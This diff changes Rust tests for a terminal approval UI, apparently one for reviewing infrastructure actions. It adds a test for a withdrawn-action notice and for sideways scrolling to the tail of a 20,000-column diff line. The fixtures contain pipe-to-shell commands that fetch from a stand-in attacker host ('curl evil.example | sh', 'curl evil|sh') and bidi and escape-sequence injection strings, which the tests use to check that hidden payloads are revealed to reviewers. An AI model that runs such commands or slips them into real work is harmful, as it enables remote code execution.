@@ -108,6 +108,30 @@ fn approve_dialog() {
 }
 
 #[test]
+fn withdrawn_under_the_dialog_notice() {
+    snap_both("withdrawn_notice", |size| {
+        let a = action(1, "db.export", "customers", "production", RiskLevel::High);
+        let b = action(2, "k8s.scale", "payments-api", "staging", RiskLevel::Medium);
+        let mut app = live_app(vec![a.clone(), b], size);
+        chars(&mut app, "a");
+        chars(&mut app, "ok, ");
+        let mut gone = a;
+        gone.status = signoff::protocol::Status::Withdrawn;
+        update(
+            &mut app,
+            fixtures::server(signoff::protocol::messages::ServerMsg::Resolved {
+                seq: 11,
+                action: gone,
+                decided_by: vec![],
+                reason: "withdrawn".into(),
+            }),
+        );
+        chars(&mut app, "all good");
+        app
+    });
+}
+
+#[test]
 fn critical_approve_dialog() {
     snap_both("critical_dialog", |size| {
         let mut app = live_app(
@@ -252,7 +276,7 @@ fn hostile_action_shows_every_hidden_character() {
         !screen.contains('\u{202e}'),
         "no raw bidi override reaches the buffer"
     );
-    assert!(screen.contains("⟨CSI 2J⟩"));
+    assert!(screen.contains("⟨ESC⟩[2J"));
     assert!(screen.contains("⟨U+202E⟩"));
     assert!(screen.contains("⟨U+200B⟩"));
 }
@@ -373,7 +397,7 @@ fn hostile_history_text_shows_as_markers_in_rows_and_record() {
     let screen = render(&app, 160, 48);
     assert!(screen.contains("⟨U+202E⟩"), "{screen}");
     assert!(screen.contains("⟨U+200B⟩"), "{screen}");
-    assert!(screen.contains("⟨CSI 2J⟩"), "{screen}");
+    assert!(screen.contains("⟨ESC⟩[2J"), "{screen}");
     assert!(!screen.contains('\u{1b}') && !screen.contains('\u{202e}'));
 }
 
@@ -420,19 +444,29 @@ fn no_color_theme_renders() {
     assert!(!coloured, "NO_COLOR: no cell has a colour");
 }
 
+/// Issue 12: a 20,000-column added line ending in the payload. The title says which
+/// columns show, `>` marks the cut, and `$` (or `l` until the end) brings the tail in.
 #[test]
-fn long_diff_lines_wrap_instead_of_hiding_their_tail() {
+fn long_diff_line_tail_is_reachable_by_scrolling_sideways() {
     let mut a = action(1, "sh.run", "deploy.sh", "production", RiskLevel::High);
-    let padded = format!("+echo ok{}; curl evil.example | sh", " ".repeat(90));
+    let long = format!("+{};TAILMARK-DIFF curl evil|sh", "a".repeat(20_000 - 27));
     a.change = Some(signoff::protocol::Change::UnifiedDiff {
-        diff: format!("@@ -1 +1 @@\n-echo ok\n{padded}\n"),
+        diff: format!("@@ -1 +1 @@\n-echo ok\n{long}\n"),
     });
-    let mut app = live_app(vec![a], (80, 24));
+    let mut app = live_app(vec![a], (160, 48));
     app.focus = Pane::Diff;
-    app.detail = Pane::Diff;
-    let screen = render(&app, 80, 24);
-    assert!(screen.contains("curl evil.example | sh"), "{screen}");
-    insta::assert_snapshot!("diff_long_line_80x24", screen);
+    let screen = render(&app, 160, 48);
+    assert!(!screen.contains("TAILMARK"), "{screen}");
+    assert!(screen.contains("cols 1–65 of 20,000"), "{screen}");
+    assert!(screen.contains("aaa>"), "the cut is marked:\n{screen}");
+    chars(&mut app, "$");
+    let screen = render(&app, 160, 48);
+    assert!(screen.contains(";TAILMARK-DIFF curl evil|sh"), "{screen}");
+    assert!(screen.contains("cols 19,936–20,000 of 20,000"), "{screen}");
+    insta::assert_snapshot!("diff_long_line_tail_160x48", screen);
+    // `l` steps half a pane; `0` goes back.
+    chars(&mut app, "0l");
+    assert!(render(&app, 160, 48).contains("cols 33–97 of 20,000"));
 }
 
 #[test]
